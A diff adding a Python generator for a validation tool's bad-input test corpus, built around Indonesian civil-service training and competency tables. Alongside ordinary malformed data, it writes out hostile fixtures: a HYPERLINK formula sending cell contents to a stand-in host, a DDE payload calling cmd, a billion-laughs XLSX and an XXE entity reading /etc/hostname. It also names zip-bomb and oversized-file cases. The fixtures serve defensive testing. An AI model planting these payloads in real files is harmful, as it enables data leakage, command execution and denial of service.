@@ -1,0 +1,446 @@
+"""Build the bad-input corpus in this folder (run once; the files are committed).
+
+    python tests/data/bad/make_cases.py
+
+Layout
+------
+``_base/``
+    A small, clean agency (all 15 tables + ``instansi.yaml``) that validates with no problem.
+``<case_id>/``
+    Only the file(s) a case changes. A test copies ``_base/`` to a temporary folder, removes the
+    files named in the ``remove`` column of ``cases.csv``, copies the case's files over it and runs
+    ``workbook validate`` on the result.
+``cases.csv``
+    One row per case: ``case_id, table, failure_class, file, expected_code, severity, row, column,
+    remove, generated, note``. ``row`` is the spreadsheet row (header = 1; blank = the whole file),
+    ``column`` the canonical column (blank = the whole file). ``generated`` names the cases whose
+    file is built at test time and never committed (an oversized file, a zip bomb).
+
+Failure classes: ``missing_column``, ``renamed_column``, ``text_in_number``, ``out_of_range``,
+``invalid_value`` (dates, allowed values, blanks, NIP), ``duplicate_id``, ``unmatched_id``,
+``empty_file``, ``header_only``, ``wrong_encoding``, ``excel_merged_formula``,
+``csv_injection``, ``missing_file``, ``oversized``, ``zip_bomb``, ``xml_attack``.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import zipfile
+from pathlib import Path
+
+HERE = Path(__file__).parent
+INJECTION = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Klik di sini")'
+
+CODES = [("M.1", "Integritas", "Integrity", "manajerial"), ("M.2", "Kerja Sama", "Teamwork", "manajerial"),
+         ("SK.1", "Perekat Bangsa", "Nation Building", "sosial_kultural"),
+         ("T.01", "Analisis Data", "Data Analysis", "teknis")]
+JAB = [("Analis Kebijakan Ahli Muda", "fungsional", "III/c"), ("Pengadministrasi Umum", "pelaksana", "II/c"),
+       ("Kepala Seksi Pelayanan", "pengawas", "III/d")]
+UNITS = [("DINKES", "Dinas Kesehatan"), ("BKPSDM", "Badan Kepegawaian dan Pengembangan SDM")]
+
+
+def base_tables() -> dict[str, tuple[list[str], list[list[str]]]]:
+    """The clean base agency: table → (header, rows of text cells)."""
+    t: dict[str, tuple[list[str], list[list[str]]]] = {}
+    t["kamus_kompetensi"] = (["kode_kompetensi", "nama_id", "nama_en", "jenis"], [list(c) for c in CODES])
+    t["standar_kompetensi"] = (["jabatan", "kode_kompetensi", "level_standar"],
+                               [[j[0], c[0], str(2 + (i + k) % 3)] for i, j in enumerate(JAB)
+                                for k, c in enumerate(CODES)])
+    peg = []
+    for i in range(12):
+        u, j = UNITS[i % 2], JAB[i % 3]
+        status = "PPPK" if i == 11 else "PNS"
+        peg.append([f"P{i + 1:04d}", u[0], u[1], j[0], j[1], "" if status == "PPPK" else j[2], status,
+                    f"20{10 + i % 10}-0{1 + i % 9}-01", "LP"[i % 2], ["<30", "30-39", "40-49", "50+"][i % 4],
+                    "100", str(80 + i), "Baik", str(50 + i)])
+    t["pegawai"] = (["pegawai_id", "kode_unit", "nama_unit", "jabatan", "jenis_jabatan", "golongan", "status", "tmt",
+                     "jenis_kelamin", "kelompok_usia", "skp_target", "skp_realisasi", "predikat_kinerja",
+                     "skor_potensi"], peg)
+    t["hasil_asesmen"] = (["pegawai_id", "kode_kompetensi", "level", "tanggal", "metode"],
+                          [[f"P{i + 1:04d}", "M.1", str(2 + i % 3), "2026-03-14", "pemetaan"] for i in range(4)])
+    sv_head = ["pegawai_id", "waktu_isi"] + [f"level_{c[0]}" for c in CODES] + [f"penting_{c[0]}" for c in CODES] + [
+        "bentuk_diminati", "kebutuhan_lain"]
+    t["survei_pegawai"] = (sv_head, [[f"P{i + 1:04d}", f"2026-08-{10 + i:02d} 09:{i:02d}:00"] +
+                                     [str(1 + (i + k) % 5) for k in range(4)] + [str(5 - (i + k) % 5) for k in range(4)]
+                                     + ["e_learning", "Pelatihan analisis data" if i % 2 else ""] for i in range(10)])
+    t["survei_atasan"] = (["pegawai_id", "atasan_id", "waktu_isi", "level_M.1", "level_M.2"],
+                          [[f"P{i + 1:04d}", "P0003", "2026-08-20 10:00:00", "3", "4"] for i in range(4)])
+    t["katalog_program"] = (
+        ["program_id", "nama_program", "bentuk", "jalur", "kode_kompetensi", "jp", "hari", "cakupan",
+         "biaya_per_peserta", "kapasitas_per_sesi", "penyelenggara", "bulan_tersedia"],
+        [["PRG-001", "Pelatihan Analisis Data", "pelatihan_teknis", "klasikal", "T.01;M.2", "24", "", "nasional",
+          "3500000", "30", "BPSDM Provinsi", "3;4;9"],
+         ["PRG-002", "Coaching Integritas", "coaching", "nonklasikal", "M.1", "10", "", "nasional", "0", "10",
+          "Inspektorat", ""],
+         ["PRG-003", "Seminar Pelayanan Publik", "seminar", "klasikal", "M.2;SK.1", "", "2", "nasional", "1500000",
+          "100", "Dinas Kominfo", "5"]])
+    t["anggaran"] = (["sumber_dana", "kode_unit", "pagu"], [["APBD", "", "150000000"], ["BLUD", "DINKES", "25000000"]])
+    t["realisasi_pengembangan"] = (["pegawai_id", "program_id", "nama_kegiatan", "tanggal_mulai", "jp"],
+                                   [[f"P{i + 1:04d}", "PRG-001", "Pelatihan Analisis Data", "2026-04-06", "24"]
+                                    for i in range(4)])
+    t["evaluasi_l1"] = (["program_id", "responden_id", "fas_1", "fas_2", "pen_1", "rekomendasi", "komentar"],
+                        [["PRG-001", f"R{i}", str(1 + i % 4), str(1 + (i + 1) % 4), str(1 + (i + 2) % 4), "ya",
+                          "Materi aplikatif" if i % 2 else ""] for i in range(6)])
+    t["evaluasi_l2"] = (["pegawai_id", "program_id", "skor_pre", "skor_post", "skor_maks"],
+                        [[f"P{i + 1:04d}", "PRG-001", str(40 + 3 * i), str(60 + 3 * i), "100"] for i in range(6)])
+    t["evaluasi_l2_butir"] = (["pegawai_id", "program_id", "tahap", "butir_1", "butir_2", "butir_3"],
+                              [[f"P{i + 1:04d}", "PRG-001", tahap, str((i + k) % 2), "1", str(k)]
+                               for i in range(3) for k, tahap in enumerate(("pre", "post"))])
+    t["evaluasi_l3"] = (["pegawai_id", "program_id", "peran_penilai", "tahap", "tanggal", "indikator", "rating"],
+                        [[f"P{i + 1:04d}", "PRG-001", "atasan", tahap, d, "Menyusun laporan analisis", r]
+                         for i in range(2) for tahap, d, r in (("sebelum", "2026-03-01", "2"),
+                                                               ("sesudah", "2026-10-05", "4"))])
+    t["wawancara"] = (["program_id", "peran", "tanggal", "tema", "ringkasan"],
+                      [["PRG-001", "atasan", "2026-10-12", "penerapan", "Sudah menerapkan di unit"],
+                       ["PRG-001", "peserta", "2026-10-13", "hambatan", "Waktu kerja padat"]])
+    t["indikator_unit"] = (["kode_unit", "indikator", "periode", "nilai", "arah_baik", "program_id"],
+                           [["DINKES", "Indeks kepuasan masyarakat", "sebelum", "78.2", "naik", "PRG-001"],
+                            ["DINKES", "Indeks kepuasan masyarakat", "sesudah", "82.4", "naik", "PRG-001"]])
+    return t
+
+
+INSTANSI = "nama_instansi: Kabupaten Uji Rusak\njenis_instansi: kabupaten\ntahun_rencana: 2027\n"
+
+
+def to_csv(header: list[str], rows: list[list[str]]) -> str:
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\n")
+    w.writerow(header)
+    w.writerows(rows)
+    return buf.getvalue()
+
+
+# Per table: what each failure class changes.  (row index in the base rows, column, value)
+KEY_LABEL = {"hasil_asesmen": "pegawai_id+kode_kompetensi", "standar_kompetensi": "jabatan+kode_kompetensi", "evaluasi_l2": "pegawai_id+program_id",
+             "evaluasi_l2_butir": "pegawai_id+program_id+tahap", "anggaran": "sumber_dana+kode_unit",
+             "indikator_unit": "kode_unit+indikator+periode"}
+SPEC: dict[str, dict] = {
+    "pegawai": dict(drop="jabatan", rename=("kode_unit", "kode unit kerja"), num=(2, "skp_target", "seratus"),
+                    rng=(3, "skor_potensi", "150"), inval=[(4, "tmt", "31/02/2019", "not_a_date"),
+                                                         (5, "status", "Honorer", "not_allowed"),
+                                                         (6, "nama_unit", "", "required_blank")],
+                    dup=7, unmatched=(8, "jabatan", "Kepala Bidang Fiktif", "missing_standard"),
+                    inject=(1, "nama_unit"), text=(1, "nama_unit"), formula=(2, "skp_realisasi")),
+    "kamus_kompetensi": dict(drop="jenis", rename=("nama_en", "english name"), num=None, rng=None,
+                             inval=[(1, "jenis", "perilaku", "not_allowed"), (2, "nama_id", "", "required_blank")],
+                             dup=3, unmatched=None, inject=(0, "nama_en"), text=(1, "nama_id"),
+                             formula=(2, "nama_id")),
+    "standar_kompetensi": dict(drop="level_standar", rename=("jabatan", "nama jabatan"),
+                               num=(1, "level_standar", "tiga"), rng=(2, "level_standar", "7"),
+                               inval=[(3, "level_standar", "2.5", "not_an_integer"), (4, "jabatan", "", "required_blank")],
+                               dup=5, unmatched=(6, "kode_kompetensi", "X.99", "unknown_reference"),
+                               inject=(0, "jabatan"), text=(0, "jabatan"), formula=(1, "level_standar")),
+    "hasil_asesmen": dict(drop="level", rename=("metode", "cara"), num=(0, "level", "baik"), rng=(1, "level", "6"),
+                          inval=[(2, "tanggal", "kemarin", "not_a_date"), (3, "metode", "wawancara", "not_allowed")],
+                          dup=0, unmatched=(2, "pegawai_id", "P9999", "unknown_reference"),
+                          inject=(1, "pegawai_id"), text=None, formula=(2, "level")),
+    "survei_pegawai": dict(drop="waktu_isi", rename=("pegawai_id", "nomor pegawai"), num=(3, "level_M.2", "tinggi"),
+                           rng=(4, "level_T.01", "9"), inval=[(5, "waktu_isi", "besok pagi", "not_a_date"),
+                                                              (6, "penting_M.1", "3.5", "not_an_integer")],
+                           dup=1, unmatched=(7, "pegawai_id", "P0999", "unknown_reference"),
+                           inject=(2, "kebutuhan_lain"), text=(3, "kebutuhan_lain"), formula=(4, "level_M.1")),
+    "survei_atasan": dict(drop="pegawai_id", rename=("waktu_isi", "tanggal isi"), num=(0, "level_M.1", "cukup"),
+                          rng=(1, "level_M.2", "0"), inval=[(2, "waktu_isi", "", "required_blank")],
+                          dup=3, unmatched=(2, "pegawai_id", "P7777", "unknown_reference"),
+                          inject=(1, "atasan_id"), text=(0, "atasan_id"), formula=(3, "level_M.2")),
+    "katalog_program": dict(drop="biaya_per_peserta", rename=("nama_program", "judul"),
+                            num=(0, "biaya_per_peserta", "tiga juta"), rng=(1, "kapasitas_per_sesi", "0"),
+                            inval=[(2, "bentuk", "webinar", "not_allowed"), (0, "bulan_tersedia", "3;13", "out_of_range")],
+                            dup=2, unmatched=(1, "kode_kompetensi", "M.1;Z.5", "unknown_reference"),
+                            inject=(2, "nama_program"), text=(1, "penyelenggara"), formula=(0, "kapasitas_per_sesi")),
+    "anggaran": dict(drop="pagu", rename=("sumber_dana", "sumber"), num=(0, "pagu", "seratus juta"),
+                     rng=(1, "pagu", "-5000000"), inval=[(1, "sumber_dana", "", "required_blank")],
+                     dup=0, unmatched=None, inject=(1, "sumber_dana"), text=(1, "sumber_dana"), formula=(0, "pagu")),
+    "realisasi_pengembangan": dict(drop="tanggal_mulai", rename=("jp", "jam pelatihan"), num=(0, "jp", "dua puluh"),
+                                   rng=(1, "jp", "5000"), inval=[(2, "tanggal_mulai", "2026-13-45", "not_a_date")],
+                                   dup=None, unmatched=(3, "pegawai_id", "P4242", "unknown_reference"),
+                                   inject=(0, "nama_kegiatan"), text=(0, "nama_kegiatan"), formula=(1, "jp")),
+    "evaluasi_l1": dict(drop="program_id", rename=("program_id", "kode pelatihan"), num=(0, "fas_1", "baik sekali"),
+                        rng=(1, "fas_2", "7"), inval=[(2, "rekomendasi", "mungkin", "not_allowed")],
+                        dup=None, unmatched=(3, "program_id", "PRG-404", "unknown_reference"),
+                        inject=(1, "komentar"), text=(1, "komentar"), formula=(2, "fas_1")),
+    "evaluasi_l2": dict(drop="skor_maks", rename=("program_id", "kode diklat"), num=(0, "skor_pre", "lima puluh"),
+                        rng=(1, "skor_post", "-3"), inval=[(2, "skor_maks", "", "required_blank"),
+                                                           (3, "skor_post", "120", "score_above_max")],
+                        dup=4, unmatched=(5, "pegawai_id", "P8888", "unknown_reference"),
+                        inject=(0, "pegawai_id"), text=None, formula=(1, "skor_post")),
+    "evaluasi_l2_butir": dict(drop="tahap", rename=("tahap", "fase"), num=(0, "butir_1", "benar"),
+                              rng=(1, "butir_2", "-1"), inval=[(2, "tahap", "tengah", "not_allowed")],
+                              dup=3, unmatched=(4, "program_id", "PRG-999", "unknown_reference"),
+                              inject=(5, "pegawai_id"), text=None, formula=(0, "butir_3")),
+    "evaluasi_l3": dict(drop="rating", rename=("peran_penilai", "penilai"), num=(0, "rating", "bagus"),
+                        rng=(1, "rating", "6"), inval=[(2, "tahap", "selama", "not_allowed"),
+                                                       (3, "tanggal", "Oktober", "not_a_date")],
+                        dup=None, unmatched=(3, "program_id", "PRG-777", "unknown_reference"),
+                        inject=(0, "indikator"), text=(0, "indikator"), formula=(1, "rating")),
+    "wawancara": dict(drop="tema", rename=("peran", "narasumber"), num=None, rng=None,
+                      inval=[(0, "peran", "kepala", "not_allowed"), (1, "tanggal", "", "required_blank")],
+                      dup=None, unmatched=(1, "program_id", "PRG-123", "unknown_reference"),
+                      inject=(1, "ringkasan"), text=(0, "ringkasan"), formula=(0, "tema")),
+    "indikator_unit": dict(drop="nilai", rename=("arah_baik", "arah"), num=(0, "nilai", "tinggi"), rng=None,
+                           inval=[(1, "periode", "selama", "not_allowed"), (0, "arah_baik", "", "required_blank")],
+                           dup=1, unmatched=None, inject=(0, "indikator"), text=(1, "indikator"),
+                           formula=(1, "nilai")),
+}
+# tables that also get the second variant of a class and the generated files
+VARIANTS = ("pegawai", "survei_pegawai", "katalog_program", "evaluasi_l2")
+REQUIRED_TABLES = ["pegawai", "kamus_kompetensi", "standar_kompetensi", "survei_pegawai", "katalog_program",
+                   "anggaran", "realisasi_pengembangan"]
+LATEST_BY = {"hasil_asesmen": "tanggal", "survei_pegawai": "waktu_isi", "survei_atasan": "waktu_isi"}
+
+
+def _xlsx(header: list[str], rows: list[list[str]], title: str, formula: tuple[int, str]) -> bytes:
+    """A typical hand-made sheet: a merged title row, a blank row, the header, numbers stored as
+    numbers, one vertically merged block of equal values and one formula never calculated."""
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    ws.title = "Lembar1"
+    ws.append([title])
+    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(header))
+    ws.append([])
+    ws.append(header)
+    fr, fc = formula
+    for i, r in enumerate(rows):
+        vals = []
+        for c, v in zip(header, r, strict=True):
+            try:
+                vals.append(float(v) if v and c not in ("pegawai_id", "atasan_id") else (v or None))
+            except ValueError:
+                vals.append(v or None)
+        if i == fr:
+            j = header.index(fc)
+            vals[j] = f"=SUM({chr(65 + j)}{4 + (i + 1) % len(rows)},0)"
+        ws.append(vals)
+    # merge a vertical block of identical values in the first column when two rows agree
+    col0 = [r[0] for r in rows]
+    for i in range(len(col0) - 1):
+        if col0[i] == col0[i + 1] and (i, header[0]) != formula and (i + 1, header[0]) != formula:
+            ws.cell(row=5 + i, column=1, value=None)
+            ws.merge_cells(start_row=4 + i, start_column=1, end_row=5 + i, end_column=1)
+            break
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue()
+
+
+def _xml_attack(kind: str) -> bytes:
+    """A minimal XLSX whose shared strings carry an entity expansion or an external entity."""
+    if kind == "billion_laughs":
+        doctype = ('<!DOCTYPE sst [<!ENTITY a "AAAAAAAAAA">' +
+                   "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(5)) + "]>")
+        payload = "&f;"
+    else:
+        doctype = '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
+        payload = "&xxe;"
+    files = {
+        "[Content_Types].xml": (
+            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
+            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
+            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
+            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
+            'officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType='
+            '"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'),
+        "_rels/.rels": (
+            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
+        "xl/workbook.xml": (
+            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
+            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+            '<sheets><sheet name="kamus_kompetensi" sheetId="1" r:id="rId1"/></sheets></workbook>'),
+        "xl/_rels/workbook.xml.rels": (
+            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
+            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://'
+            'schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
+            '</Relationships>'),
+        "xl/sharedStrings.xml": (
+            '<?xml version="1.0" encoding="UTF-8"?>' + doctype +
+            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
+            f'<si><t>{payload}</t></si></sst>'),
+        "xl/worksheets/sheet1.xml": (
+            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+            'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>kode_kompetensi</t>'
+            '</is></c><c r="B1" t="inlineStr"><is><t>nama_id</t></is></c><c r="C1" t="inlineStr"><is><t>nama_en'
+            '</t></is></c><c r="D1" t="inlineStr"><is><t>jenis</t></is></c></row><row r="2"><c r="A2" t="s"><v>0'
+            '</v></c><c r="B2" t="inlineStr"><is><t>Integritas</t></is></c><c r="C2" t="inlineStr"><is><t>'
+            'Integrity</t></is></c><c r="D2" t="inlineStr"><is><t>manajerial</t></is></c></row></sheetData>'
+            '</worksheet>'),
+    }
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, text in files.items():
+            zf.writestr(name, text)
+    return buf.getvalue()
+
+
+def build_cases() -> list[dict]:
+    """Every case: its row of ``cases.csv`` plus ``files`` (name → bytes) to write."""
+    base = base_tables()
+    cases: list[dict] = []
+
+    def add(table: str, cls: str, files: dict[str, bytes], code: str, sev: str, row: int | None,
+            column: str | None, *, remove: str = "", generated: str = "", note: str = "",
+            fname: str | None = None, exit: int | None = None) -> None:
+        n = sum(1 for c in cases if c["table"] == table and c["failure_class"] == cls)
+        cid = f"{table}__{cls}" + (f"_{n + 1}" if n else "")
+        cases.append(dict(case_id=cid, table=table, failure_class=cls,
+                          file=fname or (next(iter(files)) if files else f"{table}.csv"),
+                          expected_code=code, severity=sev, row="" if row is None else str(row),
+                          column=column or "", exit=str(exit if exit is not None else int(sev == "error")), remove=remove, generated=generated, note=note, files=files))
+
+    for name, spec in SPEC.items():
+        head, rows = base[name]
+        fn = f"{name}.csv"
+
+        def csvb(h: list[str], r: list[list[str]]) -> bytes:
+            return to_csv(h, r).encode("utf-8")
+
+        def setcell(i: int, col: str, v: str, h: list[str] = head, r0: list[list[str]] = rows) -> list[list[str]]:
+            r = [list(x) for x in r0]
+            r[i][h.index(col)] = v
+            return r
+
+        # wrong or missing columns
+        j = head.index(spec["drop"])
+        add(name, "missing_column", {fn: csvb(head[:j] + head[j + 1:], [r[:j] + r[j + 1:] for r in rows])},
+            "missing_column", "error", 1, spec["drop"], note="required column removed")
+        old, new = spec["rename"]
+        h2 = [new if h == old else h for h in head]
+        add(name, "renamed_column", {fn: csvb(h2, rows)}, "missing_column", "error", 1, old,
+            note=f"header '{new}' instead of '{old}'")
+        if spec["num"]:
+            i, col, v = spec["num"]
+            add(name, "text_in_number", {fn: csvb(head, setcell(i, col, v))}, "not_a_number", "error", i + 2, col,
+                note=f"'{v}'")
+        if spec["rng"]:
+            i, col, v = spec["rng"]
+            add(name, "out_of_range", {fn: csvb(head, setcell(i, col, v))}, "out_of_range", "error", i + 2, col,
+                note=f"'{v}'")
+        for i, col, v, code in spec["inval"]:
+            cls = "out_of_range" if code in ("out_of_range", "score_above_max") else "invalid_value"
+            add(name, cls, {fn: csvb(head, setcell(i, col, v))}, code, "error", i + 2, col, note=f"'{v}'")
+        if spec["dup"] is not None:
+            i = spec["dup"]
+            r = [list(x) for x in rows] + [list(rows[i])]
+            if name in LATEST_BY:
+                # a second, later submission: the older one (the original row) is dropped with a warning
+                k = head.index(LATEST_BY[name])
+                r[-1][k] = "2026-09-30 08:00:00" if "waktu" in LATEST_BY[name] else "2026-09-30"
+                add(name, "duplicate_id", {fn: csvb(head, r)}, "duplicate_submission", "warning", i + 2,
+                    KEY_LABEL.get(name, head[0]), note="resubmission; the latest is kept")
+            else:
+                add(name, "duplicate_id", {fn: csvb(head, r)}, "duplicate_key", "error", len(rows) + 2,
+                    KEY_LABEL.get(name, head[0]), note=f"copy of row {i + 2}")
+        if spec["unmatched"]:
+            i, col, v, code = spec["unmatched"]
+            add(name, "unmatched_id", {fn: csvb(head, setcell(i, col, v))}, code,
+                "warning" if code == "missing_standard" else "error", i + 2, col, note=f"'{v}'")
+        add(name, "empty_file", {fn: b""}, "empty_file", "error", None, None, note="0 bytes")
+        if name in VARIANTS:
+            add(name, "empty_file", {fn: b"\r\n\r\n  \n"}, "empty_file", "error", None, None, note="blank lines only")
+        add(name, "header_only", {fn: csvb(head, [])}, "header_only", "error", 1, None)
+        # wrong encodings
+        if spec["text"]:
+            i, col = spec["text"]
+            r = setcell(i, col, (rows[i][head.index(col)] or "Catatan") + " – Café Köln")
+            add(name, "wrong_encoding", {fn: to_csv(head, r).encode("cp1252")}, "encoding_fallback", "warning",
+                None, None, note="cp1252 (old Excel 'CSV (Comma delimited)')")
+        add(name, "wrong_encoding", {fn: to_csv(head, rows).replace(",", "\t").encode("utf-16")},
+            "encoding_fallback", "warning", None, None, note="UTF-16 tab-separated (Excel 'Unicode Text')")
+        if name in VARIANTS:
+            add(name, "wrong_encoding", {fn: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8},
+                "unreadable_file", "error", None, None, note="binary (an old .xls renamed to .csv)")
+        # Excel: merged title and data cells, a formula never calculated
+        i, col = spec["formula"]
+        add(name, "excel_merged_formula",
+            {f"{name}.xlsx": _xlsx(head, rows, f"Data {name} — Kabupaten Uji Rusak", spec["formula"])},
+            "formula_no_value", "error", i + 4, col, remove=fn,
+            note="merged title and data cells; formula without a saved value")
+        # CSV injection
+        i, col = spec["inject"]
+        ex = 1 if col.endswith("_id") and col != "atasan_id" else 0  # an injected id is also unknown
+        add(name, "csv_injection", {fn: csvb(head, setcell(i, col, INJECTION))}, "formula_injection", "warning",
+            i + 2, col, note="=HYPERLINK(...)", exit=ex)
+        if name in VARIANTS:
+            add(name, "csv_injection", {fn: csvb(head, setcell(i, col, "@SUM(1+1)*cmd|' /C calc'!A0"))},
+                "formula_injection", "warning", i + 2, col, note="DDE payload", exit=ex)
+        if name in REQUIRED_TABLES:
+            add(name, "missing_file", {}, "missing_file", "error", None, None, remove=fn)
+        # generated at test time (never committed); the same code path for every table
+        if name not in VARIANTS:
+            continue
+        add(name, "oversized", {}, "too_large", "error", None, None, remove=fn, generated="oversized_csv",
+            fname=fn, note="sparse file above input.max_file_mb")
+        add(name, "zip_bomb", {}, "too_large", "error", None, None, remove=fn, generated="zip_bomb",
+            fname=f"{name}.xlsx", note="XLSX whose sheet inflates beyond input.max_xlsx_uncompressed_mb")
+
+    # pegawai with raw NIPs: an invalid NIP is located and masked
+    head, rows = base["pegawai"]
+    h2 = ["nip", "nama"] + head[1:]
+    r2 = [[f"19{70 + i}{1 + i % 9:02d}{10 + i:02d}20{10 + i % 10}{1 + i % 9:02d}{1 + i % 2}{i + 1:03d}", f"Nama Uji {i}"]
+          + r[1:] for i, r in enumerate(rows)]
+    r2[3][0] = "1985022220121"
+    add("pegawai", "invalid_value", {"pegawai.csv": to_csv(h2, r2).encode("utf-8")}, "invalid_nip", "error", 5, "nip",
+        note="NIP of 13 digits")
+    # XML attacks inside an XLSX
+    add("kamus_kompetensi", "xml_attack", {"kamus_kompetensi.xlsx": _xml_attack("billion_laughs")},
+        "unreadable_file", "error", None, None, remove="kamus_kompetensi.csv", note="entity expansion (billion laughs)")
+    add("kamus_kompetensi", "xml_attack", {"kamus_kompetensi.xlsx": _xml_attack("xxe")},
+        "unreadable_file", "error", None, None, remove="kamus_kompetensi.csv", note="external entity (XXE)")
+    # instansi.yaml
+    add("instansi", "missing_file", {}, "missing_file", "error", None, None, remove="instansi.yaml",
+        fname="instansi.yaml")
+    add("instansi", "invalid_value", {"instansi.yaml": INSTANSI.replace("2027", "tahun depan").encode()},
+        "out_of_range", "error", None, "tahun_rencana", note="year as text")
+    add("instansi", "invalid_value", {"instansi.yaml": b"nama_instansi: [Kabupaten\ntahun_rencana: 2027\n"},
+        "unreadable_file", "error", 2, None, note="broken YAML")
+    add("instansi", "empty_file", {"instansi.yaml": b""}, "required_blank", "error", None, "tahun_rencana")
+    add("instansi", "wrong_encoding", {"instansi.yaml": INSTANSI.replace("Rusak", "Café").encode("cp1252")},
+        "unreadable_file", "error", None, None, note="cp1252 YAML")
+    add("instansi", "csv_injection", {"instansi.yaml": INSTANSI.replace("Kabupaten Uji Rusak", "'=1+1'").encode()},
+        "", "none", None, None, exit=0, note="formula-like agency name: read as text, escaped on export (no problem)")
+    return cases
+
+
+COLUMNS = ["case_id", "table", "failure_class", "file", "expected_code", "severity", "row", "column", "exit", "remove",
+           "generated", "note"]
+
+
+def main() -> None:
+    base = base_tables()
+    bdir = HERE / "_base"
+    if bdir.exists():
+        shutil.rmtree(bdir)
+    bdir.mkdir()
+    (bdir / "instansi.yaml").write_text(INSTANSI, encoding="utf-8")
+    for name, (h, r) in base.items():
+        (bdir / f"{name}.csv").write_text(to_csv(h, r), encoding="utf-8", newline="")
+    for d in HERE.iterdir():
+        if d.is_dir() and d.name != "_base":
+            shutil.rmtree(d)
+    cases = build_cases()
+    for c in cases:
+        d = HERE / c["case_id"]
+        d.mkdir()
+        for fname, data in c["files"].items():
+            (d / fname).write_bytes(data)
+        if not c["files"]:
+            (d / "README.txt").write_text(
+                f"{c['failure_class']}: {c['note'] or c['expected_code']} "
+                f"({'file built at test time' if c['generated'] else 'file removed from the base'})\n",
+                encoding="utf-8")
+    with open(HERE / "cases.csv", "w", encoding="utf-8", newline="") as fh:
+        w = csv.DictWriter(fh, fieldnames=COLUMNS, extrasaction="ignore", lineterminator="\n")
+        w.writeheader()
+        w.writerows(cases)
+    print(f"{len(cases)} cases written to {HERE}")
+
+
+if __name__ == "__main__":
+    main()
